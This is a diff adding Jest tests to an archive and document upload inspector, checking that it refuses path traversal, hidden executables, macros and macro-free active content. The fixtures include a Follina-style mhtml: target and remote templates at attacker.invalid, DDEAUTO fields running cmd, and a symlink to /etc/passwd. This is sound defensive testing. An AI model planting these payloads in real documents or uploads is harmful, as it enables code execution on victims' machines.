@@ -2,7 +2,11 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { deflateRawSync } from 'node:zlib';
 import { AppError } from '@intake/shared';
 import {
+  complexField,
   docm,
+  docxWithAttachedTemplate,
+  docxWithBody,
+  docxWithExternalLink,
   docxWithVbaRelationship,
   EXECUTABLE_HEADS,
   gzipped,
@@ -15,12 +19,18 @@ import {
   packagedObjectOle2,
   packageStreamOle2,
   plainOle2,
+  pptWithStorage,
   quotedOverlapZip,
   rawZip,
+  renamedVbaStorageOle2,
   sharedLocalHeaderZip,
   unicodePathExtra,
   vbaProjectOle2,
+  visioWithVbaModule,
+  xlsWorkbook,
+  xlsxWithParts,
 } from '../../test/archives.js';
+import { iso9660, v7Tar } from '../../test/disk-images.js';
 import { buildRar } from '../../test/rar-writer.js';
 import { docx, makeSampleDir, pptx, removeSampleDir, writeSample, xlsx, zipOf } from '../../test/samples.js';
 import { MIME_DOCX, MIME_TEXT, MIME_ZIP } from '@intake/shared';
@@ -125,6 +135,30 @@ describe('inspectZip accepts real archives', () => {
     const inner = await docx({ extraEntries: { 'word/media/image1.emz': picture } });
     const outer = await docx({ extraEntries: { 'word/embeddings/Document1.docx': inner } });
     await expect(inspect(await zipOf({ 'report.docx': outer }))).resolves.toBeUndefined();
+  });
+
+  it('passes a DOCX, PPTX and zip with a stray byte or two after the end of central directory', async () => {
+    for (const bytes of [await docx(), await pptx(), await zipOf({ 'a.txt': 'hello' })]) {
+      await expect(inspect(Buffer.concat([bytes, Buffer.from('\n')]))).resolves.toBeUndefined();
+      await expect(inspect(Buffer.concat([bytes, Buffer.from([0, 0])]))).resolves.toBeUndefined();
+    }
+    const nested = Buffer.concat([await docx(), Buffer.from('\r\n')]);
+    await expect(inspect(await zipOf({ 'report.docx': nested }))).resolves.toBeUndefined();
+  });
+
+  it('passes Shift-JIS and GBK names whose 0x5C byte is a trail byte (表, ソ, 誠), as Japanese and Chinese Windows write them', async () => {
+    const shiftJis = Buffer.from([0x95, 0x5c, 0x8e, 0xa6, 0x2e, 0x74, 0x78, 0x74]); // 表示.txt
+    const katakana = Buffer.from([0x83, 0x5c, 0x83, 0x74, 0x83, 0x67, 0x2f, 0x61, 0x2e, 0x74, 0x78, 0x74]); // ソフト/a.txt
+    const gbk = Buffer.from([0xd5, 0x5c, 0x2e, 0x70, 0x64, 0x66]); // 誠.pdf
+    const entries = [shiftJis, katakana, gbk].map((name) => ({ name, content: 'x', flags: 0 }));
+    await expect(inspect(rawZip(entries))).resolves.toBeUndefined();
+    const withUnicodePath = {
+      name: shiftJis,
+      content: 'x',
+      flags: 0,
+      centralExtra: unicodePathExtra(shiftJis, '表示.txt'),
+    };
+    await expect(inspect(rawZip([withUnicodePath]))).resolves.toBeUndefined();
   });
 
   it('passes a non-ASCII CP437 name with an agreeing Unicode path field', async () => {
@@ -247,6 +281,20 @@ describe('inspectZip refuses unsafe paths (archive_path_traversal)', () => {
     expect(error.detail).toBe('An archive entry has an unsafe path.');
   });
 
+  it('refuses a backslash that is no double-byte trail byte, or that makes a .. segment as a separator', async () => {
+    const plain = Buffer.from('docs\\..\\..\\evil.txt', 'latin1');
+    await expectRefused(rawZip([{ name: plain, content: 'x', flags: 0 }]), 'archive_path_traversal');
+    const dotDot = Buffer.from([0x95, 0x5c, 0x2e, 0x2e, 0x2f, 0x61, 0x2e, 0x74, 0x78, 0x74]); // 表../a.txt
+    await expectRefused(rawZip([{ name: dotDot, content: 'x', flags: 0 }]), 'archive_path_traversal');
+    const flaggedUtf8 = Buffer.from([0x95, 0x5c, 0x2e, 0x74, 0x78, 0x74]);
+    await expectRefused(rawZip([{ name: flaggedUtf8, content: 'x', flags: 0x800 }]), 'archive_path_traversal');
+  });
+
+  it('refuses a double-byte name that hides an executable extension', async () => {
+    const name = Buffer.from([0x95, 0x5c, 0x2e, 0x65, 0x78, 0x65]); // 表.exe
+    await expectRefused(rawZip([{ name, content: 'x', flags: 0 }]), 'archive_executable');
+  });
+
   it('refuses a symlink entry', async () => {
     const symlink = { name: 'link', content: '/etc/passwd', externalAttributes: 0o120777 * 0x10000 };
     const error = await expectRefused(rawZip([symlink]), 'archive_path_traversal');
@@ -304,6 +352,20 @@ describe('inspectZip refuses executables (archive_executable)', () => {
     await expectRefused(zipOf({ [name]: 'plain text' }), 'archive_executable');
   });
 
+  it('refuses names that run when opened on Windows, and an NTFS stream suffix hiding one', async () => {
+    for (const name of ['help.chm', 'notes.one', 'x.settingcontent-ms', 'page.mht', 'index.php', 'tool.py']) {
+      await expectRefused(zipOf({ [name]: 'plain text' }), 'archive_executable');
+    }
+    await expectRefused(rawZip([{ name: 'run.bat::$DATA', content: 'echo' }]), 'archive_path_traversal');
+    await expectRefused(rawZip([{ name: 'x.vbs:', content: 'MsgBox 1' }]), 'archive_path_traversal');
+  });
+
+  it('passes an SVG picture in an OOXML media folder (Office 2016 icons)', async () => {
+    await expect(
+      inspect(await docx({ extraEntries: { 'word/media/image2.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' } })),
+    ).resolves.toBeUndefined();
+  });
+
   it('refuses a program inside a nested zip', async () => {
     const inner = await zipOf({ 'readme.txt': EXECUTABLE_HEADS.elf });
     await expectRefused(zipOf({ 'photos.zip': inner }), 'archive_executable');
@@ -349,6 +411,34 @@ describe('inspectZip refuses executables (archive_executable)', () => {
   });
 });
 
+describe('inspectZip opens containers whose signature is not in their first bytes', () => {
+  const program = (): { name: string; data: Buffer }[] => [{ name: 'notes.txt', data: EXECUTABLE_HEADS.pe }];
+
+  it('refuses a program in a tar without a ustar marker, named .tar or not', async () => {
+    await expectRefused(zipOf({ 'backup.tar': v7Tar(program()) }), 'archive_executable');
+    await expectRefused(zipOf({ 'backup.dat': v7Tar(program()) }), 'archive_executable');
+  });
+
+  it('refuses a program in an ISO image (CD001 at 32,769), bare and gzipped', async () => {
+    await expectRefused(zipOf({ 'disk.iso': iso9660(program()) }), 'archive_executable');
+    await expectRefused(zipOf({ 'disk.iso.gz': gzipped(iso9660(program())) }), 'archive_executable');
+    await expectRefused(zipOf({ 'disk.img': iso9660([{ name: 'setup.exe', data: 'x' }]) }), 'archive_executable');
+  });
+
+  it('refuses a container name 7-Zip cannot open (lz4, or a .tar that is no tar)', async () => {
+    const lz4Frame = Buffer.concat([Buffer.from([0x04, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7]), Buffer.alloc(32)]);
+    await expectRefused(zipOf({ 'data.lz4': lz4Frame }), 'archive_unreadable');
+    await expectRefused(zipOf({ 'backup.tar': 'not a tar at all' }), 'archive_unreadable');
+  });
+
+  it('passes a clean tar without a ustar marker, a clean ISO image, and empty container names', async () => {
+    const clean = [{ name: 'notes.txt', data: 'just notes\n' }];
+    await expect(
+      inspect(await zipOf({ 'a.tar': v7Tar(clean), 'b.iso': iso9660(clean), 'c.gz': '' })),
+    ).resolves.toBeUndefined();
+  });
+});
+
 describe('inspectZip refuses macros (archive_macro)', () => {
   it('refuses vbaProject.bin anywhere', async () => {
     await expectRefused(docx({ extraEntries: { 'word/vbaProject.bin': vbaProjectOle2() } }), 'archive_macro');
@@ -372,12 +462,155 @@ describe('inspectZip refuses macros (archive_macro)', () => {
     await expectRefused(docx({ extraEntries: { 'word/media/image1.png': vbaProjectOle2() } }), 'archive_macro');
   });
 
+  it('refuses Excel 4.0 (XLM) macro sheets and Excel 5 module sheets in a .xls, visible or very hidden', async () => {
+    const xlm = xlsWorkbook([
+      { name: 'Sheet1', type: 0 },
+      { name: 'Macro1', type: 1, hidden: 2 },
+    ]);
+    await expectRefused(zipOf({ 'book.xls': xlm }), 'archive_macro');
+    await expectRefused(zipOf({ 'book.xls': xlsWorkbook([{ name: 'Module1', type: 6 }]) }), 'archive_macro');
+  });
+
+  it('refuses a PowerPoint 97–2003 VBA project (compressed ExOleObjStg record)', async () => {
+    await expectRefused(zipOf({ 'deck.ppt': pptWithStorage(vbaProjectOle2()) }), 'archive_macro');
+    const hidden = pptWithStorage(vbaProjectOle2(), { insideAnotherAtom: true });
+    await expectRefused(zipOf({ 'deck.ppt': hidden }), 'archive_macro');
+  });
+
+  it('refuses a VBA module in a stream of its own (Visio) and a dir stream under another storage name', async () => {
+    await expectRefused(zipOf({ 'drawing.vsd': visioWithVbaModule() }), 'archive_macro');
+    await expectRefused(zipOf({ 'old.doc': renamedVbaStorageOle2() }), 'archive_macro');
+  });
+
+  it('passes a .xls of worksheets and a .ppt embedding a plain document', async () => {
+    const book = xlsWorkbook([
+      { name: 'Sheet1', type: 0 },
+      { name: 'Sheet2', type: 0 },
+    ]);
+    await expect(
+      inspect(await zipOf({ 'book.xls': book, 'deck.ppt': pptWithStorage(plainOle2()) })),
+    ).resolves.toBeUndefined();
+  });
+
+  it('refuses a program packaged in an object embedded in a .ppt', async () => {
+    const embedded = packagedObjectOle2('notes.txt', EXECUTABLE_HEADS.pe);
+    await expectRefused(zipOf({ 'deck.ppt': pptWithStorage(embedded) }), 'archive_executable');
+  });
+
   it('refuses a macro-enabled document nested in a zip', async () => {
     await expectRefused(zipOf({ 'report.docx': await docm() }), 'archive_macro');
   });
 });
 
+describe('inspectZip refuses active content without macros (document_active_content)', () => {
+  const sheet = (formula: string): string =>
+    '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
+    `<sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;
+
+  it.each([
+    ['an http template', 'http://attacker.invalid/t.dotm'],
+    ['a UNC template', '\\\\attacker.invalid\\share\\t.dotm'],
+    ['a WebDAV file URL', 'file://attacker.invalid/share/t.dotm'],
+  ])('refuses a remote attachedTemplate: %s', async (_label, target) => {
+    await expectRefused(docxWithAttachedTemplate(target), 'document_active_content');
+  });
+
+  it('refuses an external oleObject with an mhtml: target (Follina) and remote subDocument and frame', async () => {
+    const follina = 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x.html';
+    await expectRefused(docxWithExternalLink('oleObject', follina), 'document_active_content');
+    await expectRefused(docxWithExternalLink('oleObject', 'https://attacker.invalid/o.bin'), 'document_active_content');
+    await expectRefused(
+      docxWithExternalLink('subDocument', 'https://attacker.invalid/s.docx'),
+      'document_active_content',
+    );
+    await expectRefused(docxWithExternalLink('frame', 'https://attacker.invalid/f.html'), 'document_active_content');
+  });
+
+  it('refuses DDE and DDEAUTO fields, simple, complex, split over runs and spelled with references', async () => {
+    const simple = '<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/>';
+    await expectRefused(docxWithBody(simple), 'document_active_content');
+    await expectRefused(docxWithBody(complexField(['DDE cmd "/c calc" A1'])), 'document_active_content');
+    await expectRefused(docxWithBody(complexField([' DD', 'EAU', 'TO cmd "/c calc"'])), 'document_active_content');
+    await expectRefused(docxWithBody(complexField([' &#x44;DEAUTO cmd'])), 'document_active_content');
+  });
+
+  it('refuses a DDE link and a DDE formula in a workbook', async () => {
+    await expectRefused(
+      xlsxWithParts({
+        'xl/externalLinks/externalLink1.xml':
+          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
+          '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+      }),
+      'document_active_content',
+    );
+    await expectRefused(
+      xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('cmd|&apos; /c calc&apos;!A0') }),
+      'document_active_content',
+    );
+  });
+
+  it('refuses a DDE field in a main part moved out of word/ (the relationships say where it is)', async () => {
+    const body =
+      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>' +
+      `${complexField(['DDEAUTO cmd'])}</w:p></w:body></w:document>`;
+    await expectRefused(docx({ extraEntries: { 'content/main.xml': body } }), 'document_active_content');
+  });
+
+  it('passes a plain zip holding XML that is not well-formed', async () => {
+    await expect(inspect(await zipOf({ 'templates/broken.xml': '<a><b></a>' }))).resolves.toBeUndefined();
+  });
+
+  it('refuses a document with active content nested in a zip', async () => {
+    const inner = await docxWithBody(complexField(['DDEAUTO cmd']));
+    await expectRefused(zipOf({ 'letter.docx': inner }), 'document_active_content');
+  });
+
+  it('passes a local template, a hyperlink, ordinary fields and formulas', async () => {
+    await expect(
+      inspect(await docxWithAttachedTemplate('file:///C:\\Users\\me\\Templates\\Letter.dotx')),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(await docxWithExternalLink('oleObject', 'file:///C:\\data\\figures.xlsx')),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(
+        await docx({
+          extraEntries: {
+            'word/_rels/document.xml.rels':
+              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
+              'Target="https://example.org/" TargetMode="External"/></Relationships>',
+          },
+        }),
+      ),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(
+        await docxWithBody(complexField([' PAGE '], '1') + '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM&quot; "/>'),
+      ),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(await xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('SUM(B1:B9)&amp;"a|b!c"') })),
+    ).resolves.toBeUndefined();
+  });
+});
+
 describe('inspectZip refuses what it cannot read (archive_unreadable)', () => {
+  it('refuses more than a few bytes after the end of central directory', async () => {
+    await expectRefused(
+      Buffer.concat([await zipOf({ 'a.txt': 'hello' }), Buffer.alloc(17, 0x20)]),
+      'archive_unreadable',
+    );
+  });
+
+  it('still refuses a hidden local entry and overlapping entries when stray bytes follow the end', async () => {
+    const hidden = rawZip([{ name: 'a.txt', content: 'visible' }], {
+      beforeDirectory: rawZip([{ name: 'run.exe', content: 'MZ' }]).subarray(0, 40),
+    });
+    await expectRefused(Buffer.concat([hidden, Buffer.from('\n')]), 'archive_unreadable');
+    await expectRefused(Buffer.concat([sharedLocalHeaderZip(), Buffer.from('\n')]), 'archive_bomb');
+  });
+
   it('refuses an encrypted entry', async () => {
     await expectRefused(rawZip([{ name: 'secret.txt', content: 'x', flags: 0x1 }]), 'archive_unreadable');
   });
